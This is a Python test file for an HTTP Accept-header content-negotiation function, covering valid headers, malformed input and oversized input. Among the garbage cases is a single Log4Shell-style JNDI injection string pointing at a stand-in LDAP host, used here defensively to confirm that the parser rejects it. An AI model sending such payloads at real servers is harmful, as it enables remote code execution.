"""The twin of chute.semantics.negotiation."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chute.semantics.negotiation import ACCEPT_BYTES_MAX, choose_media_type

HTML = b"text/html; charset=utf-8"
JSON = b"application/json"
TEXT = b"text/plain; charset=utf-8"
OFFERS = (HTML, JSON, TEXT)


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        pytest.param(None, HTML, id="absent"),
        pytest.param(b"*/*", HTML, id="anything"),
        pytest.param(b"application/json", JSON, id="exact"),
        pytest.param(b"APPLICATION/Json", JSON, id="case does not matter"),
        pytest.param(b"text/*;q=0.5, application/*", JSON, id="ranges of subtypes"),
        pytest.param(b"text/plain, text/html", HTML, id="the server's order breaks ties"),
        pytest.param(b"text/html;q=0.1, application/json;q=0.2", JSON, id="weights"),
        pytest.param(b"text/html ; q=0.1 ,application/json ;q=0.2", JSON, id="white space"),
        pytest.param(b"text/html;Q=0.1, */*;q=0.2", JSON, id="upper case weight"),
        pytest.param(b"text/html;q=0, */*", JSON, id="excluded by the more specific"),
        pytest.param(b"*/*, text/*;q=0.1", JSON, id="specificity beats order"),
        pytest.param(b"text/plain;q=1.000, */*;q=0.999", TEXT, id="three digits"),
        pytest.param(b"text/plain;q=1., */*;q=0.", TEXT, id="no digit behind the point"),
        pytest.param(b"text/html;level=1, application/json;q=0.5", JSON, id="parameter unmet"),
        pytest.param(
            b"text/*;q=0.1, text/plain;charset=UTF-8, */*;q=0.2", TEXT, id="parameter met"
        ),
        pytest.param(
            b'text/*;q=0.1, text/plain;charset="utf-8", */*;q=0.2', TEXT, id="parameter quoted"
        ),
        pytest.param(
            b'a/b;c="x,\\"y;q=0", application/json', JSON, id="comma in a quoted parameter"
        ),
        pytest.param(b"text/plain;;q=1, */*;q=0.5", TEXT, id="empty parameter"),
        pytest.param(b"application/json;q=1;ext=1, */*;q=0.5", JSON, id="after the weight"),
        pytest.param(b", ,application/json,,", JSON, id="empty members"),
        pytest.param(b"image/png", HTML, id="none acceptable"),
        pytest.param(b"*/*;q=0", HTML, id="all refused"),
    ],
)
def test_choose_media_type_prefers_what_the_client_prefers(
    accept: bytes | None, expected: bytes
) -> None:
    assert choose_media_type(accept, OFFERS) == expected


@pytest.mark.parametrize(
    "accept",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b", ,", id="only empty members"),
        pytest.param(b"json", id="no slash"),
        pytest.param(b"application/json, garbage", id="one bad member"),
        pytest.param(b"*/json", id="half a wildcard"),
        pytest.param(b"application/json;q=2, text/html;q=0", id="weight above one"),
        pytest.param(b"application/json;q=.5, text/html;q=0", id="weight without its zero"),
        pytest.param(b"application/json;q=0.1234, text/html;q=0", id="weight with four digits"),
        pytest.param(b"application/json;q=nan, text/html;q=0", id="weight float() would take"),
        pytest.param(b'application/json;a="b', id="quotation not closed"),
        pytest.param(b"application/json\n", id="line feed behind it"),
        pytest.param(b"${jndi:ldap://example.invalid/a}", id="jndi"),
        pytest.param(b"application/json".ljust(ACCEPT_BYTES_MAX + 1), id="too long"),
        pytest.param(b"a/a;" * 8000, id="32 KiB of parameters"),
        pytest.param(b" " * 32_768, id="32 KiB of white space"),
    ],
)
def test_t20_choose_media_type_disregards_garbage(accept: bytes) -> None:
    assert choose_media_type(accept, OFFERS) == HTML


def test_choose_media_type_with_one_offer_has_no_choice() -> None:
    assert choose_media_type(b"application/json", [HTML]) == HTML


def test_choose_media_type_refuses_an_offer_that_is_no_media_type() -> None:
    with pytest.raises(AssertionError):
        choose_media_type(b"*/*", [b"html", b"json"])


@given(st.binary(max_size=80) | st.text('a/*;q=0.1 ,"\\').map(str.encode))
def test_choose_media_type_always_returns_an_offer(accept: bytes) -> None:
    assert choose_media_type(accept, OFFERS) in OFFERS
